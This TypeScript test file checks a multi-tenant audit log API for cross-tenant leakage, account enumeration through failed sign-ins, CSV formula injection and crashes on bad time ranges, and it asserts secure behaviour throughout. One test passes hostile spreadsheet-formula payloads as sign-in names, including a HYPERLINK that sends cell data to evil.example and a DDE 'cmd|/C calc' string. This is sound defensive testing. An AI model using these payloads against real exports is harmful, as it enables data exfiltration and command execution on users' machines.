// An outside attacker's view of the audit log: a tenant administrator reading (list and CSV export)
// another tenant's events through its filters, learning which accounts exist from failed sign-ins,
// and hostile names reaching a spreadsheet as formulas. Every test asserts the secure behaviour.
import { after, before, test } from 'node:test';
import assert from 'node:assert/strict';
import { startServer, transform, type Client, type TestServer, ok } from './harness';
import type { LoginSettings } from '../../src/core/schemas/settings';
import type { Versioned } from '../../server/settings';

let server: TestServer;
let admin: Client;
let adminOfA: Client;
let tenantA = '';
let tenantB = '';
let bobId = '';

interface Entry {
  actorName: string | null;
  targetId: string | null;
  targetName: string | null;
  tenantId: string | null;
  action: string;
  detail: Record<string, unknown>;
}

before(async () => {
  server = await startServer();
  admin = await server.admin();
  const root = (await ok(admin.get<{ id: string; parentId: string | null }[]>('/api/tenants/tree'))).find((row) => row.parentId === null)!;
  tenantA = (await ok(admin.post<{ id: string }>('/api/tenants', { parentId: root.id, name: 'Audit_A', type: 'company' }))).id;
  tenantB = (await ok(admin.post<{ id: string }>('/api/tenants', { parentId: root.id, name: 'Audit_B', type: 'company' }))).id;
  await ok(admin.post('/api/user', { username: 'audit-boss-a', realName: 'Boss_A', password: transform('Tenant123!'), tenantId: tenantA, isAdmin: true }));
  bobId = (
    await ok(admin.post<{ id: string }>('/api/user', { username: 'audit-bob-b', realName: 'Bob_B', password: transform('Secret123'), tenantId: tenantB }))
  ).id;
  adminOfA = server.client();
  assert.equal((await adminOfA.login('audit-boss-a', 'Tenant123!')).body.data?.loginSuccess, true);
  // Failed sign-ins: an existing account of tenant B, and a name nobody has.
  for (const username of ['audit-bob-b', 'audit-nobody-here']) assert.equal((await server.client().login(username, 'Wrong1234')).status, 401);
  // Something happens in tenant B.
  const { version } = await ok(admin.get<{ version: number }>(`/api/user/${bobId}`));
  await ok(admin.put(`/api/user/${bobId}`, { realName: 'Bob_B_Renamed', version }));
});
after(() => server.stop());

const list = (client: Client, query: string) => ok(client.get<{ list: Entry[]; pager: { total: number } }>(`/api/audit?pageSize=100&${query}`));

async function exported(client: Client, query: string): Promise<string> {
  const response = await client.raw('GET', `/api/audit/export?${query}`);
  assert.equal(response.status, 200);
  return response.text();
}

const mentions = (text: string, needles: string[]) => needles.filter((needle) => text.includes(needle));

test("a tenant administrator's list and export, filtered to another tenant or its person, show none of its events", async () => {
  for (const query of [`tenantId=${tenantB}`, `target=${bobId}`, 'target=audit-bob-b', 'actor=admin', 'from=0&to=99999999999999']) {
    const page = await list(adminOfA, query);
    for (const entry of page.list) assert.equal(entry.tenantId, tenantA, `${query}: ${JSON.stringify(entry)}`);
    const csv = await exported(adminOfA, query);
    assert.deepEqual(mentions(csv, [bobId, 'audit-bob-b', 'Bob_B', tenantB, 'Audit_B']), [], `${query}: the export names tenant B`);
  }
  // The platform administrator does see them (the events exist).
  assert.ok((await list(admin, `target=${bobId}`)).pager.total >= 1);
});

test('failed sign-ins tell a tenant administrator nothing about which accounts exist elsewhere', async () => {
  const text = JSON.stringify((await list(adminOfA, 'action=login.failure')).list) + (await exported(adminOfA, 'action=login.failure'));
  assert.deepEqual(mentions(text, ['audit-bob-b', 'audit-nobody-here', bobId]), []);
});

test("a tenant administrator naming another tenant's event as a parent (parentId) reads none of it", async () => {
  const theirs = (await list(admin, `tenantId=${tenantB}`)).list as (Entry & { id: number })[];
  assert.ok(theirs.length >= 1, 'tenant B has events');
  for (const event of theirs) {
    assert.equal((await list(adminOfA, `parentId=${event.id}`)).pager.total, 0);
    assert.deepEqual(mentions(await exported(adminOfA, `parentId=${event.id}`), [tenantB, 'audit-bob-b']), []);
  }
});

test('hostile sign-in names reach the CSV export as text, never as a formula', async () => {
  const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "@SUM(1+1)*cmd|' /C calc'!A0", '+1+cmd', '-2+3', '\t=1+1', '\r=1+1'];
  for (const username of hostile) await server.client().login(username, 'Wrong1234');
  const csv = await exported(admin, 'action=login.failure');
  const cells = csv
    .split('\r\n')
    .flatMap((line) => line.split(','))
    .map((cell) => cell.replace(/^"/, ''));
  const formulas = cells.filter((cell) => /^[=+\-@\t\r]/.test(cell) && !/^-?\d/.test(cell) && cell !== '-');
  assert.deepEqual(formulas, [], 'cells a spreadsheet would run');
  assert.ok(csv.includes(`'=HYPERLINK`), 'the hostile name is in the export, neutralised');
});

test('nonsense time ranges answer 200 or 400, never a 500', async () => {
  for (const query of ['from=abc', 'to=-1e309', 'from=1e400']) {
    const answer = await adminOfA.get(`/api/audit?${query}`);
    assert.ok([200, 400].includes(answer.status), `${query}: ${answer.status}`);
    const response = await adminOfA.raw('GET', `/api/audit/export?${query}`);
    assert.ok([200, 400].includes(response.status), `export ${query}: ${response.status}`);
  }
});

test("what a platform administrator's bulk action and role-member save did to a tenant's people is at the top level of that tenant's log, and nothing of another tenant's", async () => {
  const person = async (username: string, tenantId: string) =>
    (await ok(admin.post<{ id: string }>('/api/user', { username, realName: username.replace(/-/g, '_'), password: transform('Secret123'), tenantId }))).id;
  const [ofA, ofB] = [await person('audit-bulk-a', tenantA), await person('audit-bulk-b', tenantB)];
  await ok(admin.post('/api/user/bulk', { action: 'disable', ids: [ofA, ofB] }));
  const appId = (await ok(admin.post<{ id: string }>('/api/apps', { name: 'Audit_App' }))).id;
  const roleId = (await ok(admin.post<{ id: string }>(`/api/apps/${appId}/roles`, { name: 'Auditors' }))).id;
  await ok(admin.put(`/api/apps/${appId}/roles/${roleId}/members`, { userIds: [ofA, ofB] }));
  await ok(admin.put(`/api/apps/${appId}/admins`, { userIds: [ofA] }));

  const seenByA = (await list(adminOfA, '')).list as (Entry & { parentId: number | null })[];
  const aboutA = seenByA.filter((entry) => entry.targetId === ofA && entry.action === 'user.update');
  assert.equal(aboutA.length, 3, `the disable, the role and the app's administration: ${JSON.stringify(aboutA)}`);
  assert.ok(
    aboutA.every((entry) => entry.parentId !== null && entry.tenantId === tenantA),
    'rows of actions recorded elsewhere, in their tenant',
  );
  const details = aboutA.map((entry) => entry.detail as { appId?: string; changes?: Record<string, { to: unknown }>; roles?: { added: { id: string }[] } });
  assert.ok(
    details.some((detail) => detail.changes?.availabilityStatus),
    'the disable',
  );
  assert.ok(
    details.some((detail) => detail.appId === appId && detail.roles?.added[0]?.id === roleId),
    'the role given, named',
  );
  assert.ok(
    details.some((detail) => detail.appId === appId && detail.changes?.appAdmin?.to === true),
    "the app's administration given",
  );
  assert.deepEqual(mentions(JSON.stringify(seenByA), [ofB, 'audit-bulk-b']), [], "tenant B's person is not in tenant A's log");

  // The platform administrator's own log keeps each action whole: one event, its rows beneath it.
  const top = (await list(admin, '')).list as (Entry & { parentId: number | null; children: number })[];
  assert.ok(top.some((entry) => entry.action === 'user.bulk' && entry.children === 2));
  assert.ok(top.some((entry) => entry.action === 'role.update' && entry.targetId === roleId && entry.children === 2));
  assert.ok(top.every((entry) => entry.parentId === null));
});

test('a person moved to another tenant: the move is in the log of the tenant they left, what happens to them afterwards is not', async () => {
  const id = (
    await ok(
      admin.post<{ id: string; version: number }>('/api/user', {
        username: 'audit-mover',
        realName: 'Mover',
        password: transform('Secret123'),
        tenantId: tenantA,
      }),
    )
  ).id;
  const { version } = await ok(admin.get<{ version: number }>(`/api/user/${id}`));
  const moved = await ok(admin.put<{ version: number }>(`/api/user/${id}`, { tenantId: tenantB, version }));
  await ok(admin.put(`/api/user/${id}`, { realName: 'Mover_In_B', version: moved.version }));

  const updates = async (client: Client, query: string) =>
    (await list(client, `target=${id}&action=user.update&${query}`)).list.map((entry) => Object.keys(entry.detail.changes ?? {}));
  assert.deepEqual(await updates(adminOfA, ''), [['tenantId']], "tenant A's administrator reads the move and nothing after it");
  assert.deepEqual(await updates(admin, `tenantId=${tenantA}`), [['tenantId']]);
  assert.deepEqual(await updates(admin, `tenantId=${tenantB}`), [['realName'], ['tenantId']], 'the tenant they joined reads both');
  const csv = await exported(adminOfA, `target=${id}`);
  assert.ok(csv.includes('user.update') && !csv.includes('Mover_In_B'), csv);
});

test("a failed or locked sign-in names an existing account in its tenant's log; a name nobody has names no account and no tenant", async () => {
  const lockedId = (
    await ok(admin.post<{ id: string }>('/api/user', { username: 'audit-locked-b', realName: 'Locked_B', password: transform('Secret123'), tenantId: tenantB }))
  ).id;
  const policy = await ok(admin.get<Versioned<LoginSettings>>('/api/settings/login'));
  const { version } = await ok(admin.put<{ version: number }>('/api/settings/login', { version: policy.version, maxFailures: 1, captchaAfterFailures: 0 }));
  try {
    // The first wrong password locks the name, the second is refused as locked: two login.locked records.
    for (const username of ['audit-locked-b', 'audit-locked-b', 'audit-locked-nobody', 'audit-locked-nobody'])
      assert.equal((await server.client().login(username, 'Wrong1234')).status, 429);
  } finally {
    await ok(admin.put('/api/settings/login', { version, maxFailures: policy.value.maxFailures, captchaAfterFailures: policy.value.captchaAfterFailures }));
  }
  const records = (await list(admin, 'action=login.locked')).list.map(({ actorName, targetId, tenantId }) => ({ actorName, targetId, tenantId }));
  assert.deepEqual(
    records.filter((row) => row.actorName === 'audit-locked-b'),
    [
      { actorName: 'audit-locked-b', targetId: lockedId, tenantId: tenantB },
      { actorName: 'audit-locked-b', targetId: lockedId, tenantId: tenantB },
    ],
  );
  assert.deepEqual(
    records.filter((row) => row.actorName === 'audit-locked-nobody'),
    [
      { actorName: 'audit-locked-nobody', targetId: null, tenantId: null },
      { actorName: 'audit-locked-nobody', targetId: null, tenantId: null },
    ],
  );
  const failures = (await list(admin, 'action=login.failure')).list.filter((row) => ['audit-bob-b', 'audit-nobody-here'].includes(row.actorName ?? ''));
  assert.deepEqual(
    failures.map(({ actorName, targetId, tenantId }) => ({ actorName, targetId, tenantId })).sort((a, b) => a.actorName!.localeCompare(b.actorName!)),
    [
      { actorName: 'audit-bob-b', targetId: bobId, tenantId: tenantB },
      { actorName: 'audit-nobody-here', targetId: null, tenantId: null },
    ],
  );
});
